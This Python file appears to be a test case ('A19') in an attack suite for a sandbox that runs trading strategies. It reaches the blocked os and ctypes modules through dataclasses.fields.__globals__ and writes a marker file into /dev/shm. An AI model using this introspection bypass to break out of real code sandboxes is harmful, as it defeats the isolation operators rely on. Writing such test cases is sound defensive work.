# ruff: noqa
"""A19: write to /dev/shm"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def _os():
    return dataclasses.fields.__globals__["sys"].modules["os"]


def _read(path):
    os = _os()
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 65536).decode("utf-8", "replace")
    finally:
        os.close(fd)


def _libc():
    ctypes = dataclasses.fields.__globals__["sys"].modules["ctypes"]
    return ctypes, ctypes.CDLL(None, use_errno=True)


def generate(bars, params):
    os = _os()
    fd = os.open("/dev/shm/PWNED_a19_@@TOKEN@@", os.O_WRONLY | os.O_CREAT, 0o644)
    raise RuntimeError("wrote shm")
